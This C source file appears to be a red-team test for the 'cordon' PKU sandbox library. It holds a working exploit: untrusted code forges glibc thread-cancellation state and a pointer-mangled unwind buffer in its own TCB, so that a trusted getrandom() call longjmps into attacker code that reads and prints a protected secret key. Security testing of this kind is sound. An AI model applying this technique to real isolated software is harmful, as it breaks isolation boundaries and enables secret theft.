// Trusted code that calls a libc cancellation point (getrandom, read,
// write, nanosleep, ...) follows glibc's THREAD_SELF, the pointer at fs:0x10
// in the calling thread's TCB, and the TCB itself: untrusted memory, which
// untrusted code may write (threat model: "writes to any untrusted memory,
// including TLS"). The gate does not touch fs. With header.multiple_threads
// (fs:0x18) set, the wrapper's __pthread_enable_asynccancel() reads
// cancelhandling, sees "cancelled, asynchronous", and acts on it with the
// domain's rights: __do_cancel() -> __pthread_unwind() on the TCB's
// cleanup_jmp_buf -> unwind_stop() -> __libc_longjmp() to the
// attacker's rip and rsp (pointer-mangled with the guard at fs:0x30, which
// the attacker reads from its own TCB). evil() then runs with the domain's
// PKRU, reads the secret and writes it out.
//
// The trusted entry here is one getrandom() call (like the sample's and the
// attack tests' key generation); any cancellation point in any trusted
// entry does the same.
//
//   tools/cordon-pku-run --kernel 6.1 -- build/redteam/cancel_tcb
//   tools/cordon-pku-run --kernel 6.12 -- build/redteam/cancel_tcb
#define _GNU_SOURCE
#include <cordon/cordon.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/syscall.h>
#include <unistd.h>

static cordon_entry g_gen, g_hash, g_nonce;
static uint8_t* g_secret;   // trusted: the key
static uint8_t* g_nonce_buf;  // trusted: where the entry draws nonces

static uint64_t fnv(const uint8_t* p, size_t n) {
  uint64_t h = 1469598103934665603ull;
  for (size_t i = 0; i < n; i++) h = (h ^ p[i]) * 1099511628211ull;
  return h;
}
static uint64_t e_gen(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  void* p = 0;
  if (cordon_malloc(64, &p) != 0) return 0;
  if (getrandom(p, 32, 0) != 32) return 0;
  g_nonce_buf = (uint8_t*)p + 32;
  return (uint64_t)p;
}
static uint64_t e_hash(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  return fnv(g_secret, 32);
}
// An ordinary trusted entry: draws a fresh nonce into trusted memory.
static uint64_t e_nonce(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  return (uint64_t)getrandom(g_nonce_buf, 16, 0);
}

// ---- the attacker ----
static void raw_write(int fd, const void* p, size_t n) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(1), "D"(fd), "S"(p), "d"(n) : "rcx", "r11", "memory");
}
static void hexline(const char* tag, const uint8_t* p, size_t n) {
  char buf[160];
  size_t k = 0;
  for (const char* t = tag; *t; t++) buf[k++] = *t;
  for (size_t i = 0; i < n; i++) {
    buf[k++] = "0123456789abcdef"[p[i] >> 4];
    buf[k++] = "0123456789abcdef"[p[i] & 15];
  }
  buf[k++] = '\n';
  raw_write(1, buf, k);
}
static uint64_t g_want;
static uint8_t g_evil_stack[65536] __attribute__((aligned(64)));

// Reached by the longjmp, with the domain's PKRU still loaded.
static void __attribute__((noreturn)) evil(void) {
  uint32_t pkru;
  __asm__ volatile("xor ecx, ecx\n rdpkru" : "=a"(pkru) : : "rcx", "rdx");
  uint8_t copy[32];
  for (int i = 0; i < 32; i++) copy[i] = g_secret[i];  // a trusted read
  char m[64] = "evil: running with PKRU 0x";
  for (int i = 0; i < 8; i++) m[26 + i] = "0123456789abcdef"[(pkru >> (28 - 4 * i)) & 15];
  m[34] = '\n';
  raw_write(1, m, 35);
  hexline("evil: secret ", copy, 32);
  const char* verdict = fnv(copy, 32) == g_want ? "evil: fnv matches the secret: SECRET LEAKED\n"
                                                : "evil: fnv does not match\n";
  raw_write(1, verdict, strlen(verdict));
  __asm__ volatile("syscall" : : "a"(231), "D"(0));
  __builtin_unreachable();
}

static uint64_t mangle(uint64_t v, uint64_t guard) {
  v ^= guard;
  return (v << 0x11) | (v >> (64 - 0x11));
}

// glibc's struct pthread_unwind_buf.
struct unwind_buf {
  struct { uint64_t jmp_buf[8]; int mask_was_saved; } cancel_jmp_buf[1];
  void* priv[4];
};
static struct unwind_buf g_ubuf;

static void noop_cleanup(void* p) { (void)p; }

int main(void) {
  cordon_options o;
  cordon_options_init(&o);
  if (cordon_init(&o) != 0) { printf("init failed\n"); return 1; }
  cordon_domain_t dom = cordon_trusted_domain();
  cordon_register(dom, e_gen, "gen", &g_gen);
  cordon_register(dom, e_hash, "hash", &g_hash);
  cordon_register(dom, e_nonce, "nonce", &g_nonce);
  g_secret = (uint8_t*)cordon_call(g_gen, 0, 0, 0, 0, 0);
  g_want = cordon_call(g_hash, 0, 0, 0, 0, 0);
  printf("secret at %p, fnv (computed by trusted code) %016llx\n", g_secret, (unsigned long long)g_want);
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 1; }
  printf("nonce entry returns %llu (ordinary call)\n", (unsigned long long)cordon_call(g_nonce, 0, 0, 0, 0, 0));

  // Learn where cleanup_jmp_buf sits in glibc's struct pthread by watching
  // our own TCB (untrusted memory) while pthread_cleanup_push (C) sets it;
  // cancelhandling is the int right after it (nptl/descr.h).
  unsigned char* self = (unsigned char*)pthread_self();
  static unsigned char before[4096], after[4096];
  memcpy(before, self, sizeof before);
  long off_jmpbuf = -1;
  uint64_t seen = 0;
  pthread_cleanup_push(noop_cleanup, 0);
  memcpy(after, self, sizeof after);
  pthread_cleanup_pop(0);
  for (long i = 0; i + 8 <= (long)sizeof before; i += 8) {
    uint64_t x, y;
    memcpy(&x, before + i, 8);
    memcpy(&y, after + i, 8);
    if (x != y && y > (uint64_t)&seen - 65536 && y < (uint64_t)&seen + 65536) { off_jmpbuf = i; break; }
  }
  const long off_cancel = off_jmpbuf + 8;
  printf("struct pthread at %p: cleanup_jmp_buf +%#lx, cancelhandling +%#lx\n", self, off_jmpbuf, off_cancel);
  if (off_jmpbuf < 0) return 1;
  fflush(stdout);

  // Our own thread descriptor (untrusted memory): "cancelled" (CANCELED_BIT
  // 3, cancellation enabled and deferred: the wrapper makes it
  // asynchronous), "multiple threads" (fs:0x18), and an unwind buffer that
  // sends the cancellation's longjmp to evil() on a stack of ours.
  uint64_t guard;
  __asm__("mov %0, qword ptr fs:0x30" : "=r"(guard));
  memset(&g_ubuf, 0, sizeof g_ubuf);
  g_ubuf.cancel_jmp_buf[0].jmp_buf[1] = mangle(0, guard);                                   // rbp
  g_ubuf.cancel_jmp_buf[0].jmp_buf[6] = mangle((uint64_t)(g_evil_stack + sizeof g_evil_stack - 72), guard);  // rsp
  g_ubuf.cancel_jmp_buf[0].jmp_buf[7] = mangle((uint64_t)evil, guard);                      // rip
  const uint64_t ub = (uint64_t)&g_ubuf;
  const uint32_t canceled = 1u << 3;
  // Then an ordinary call of the nonce entry.
  memcpy(self + off_jmpbuf, &ub, 8);
  memcpy(self + off_cancel, &canceled, 4);
  __asm__ volatile("mov dword ptr fs:0x18, 1" : : : "memory");
  uint64_t r = cordon_call(g_nonce, 0, 0, 0, 0, 0);
  raw_write(1, "the entry returned normally\n", 28);
  return (int)r;
}
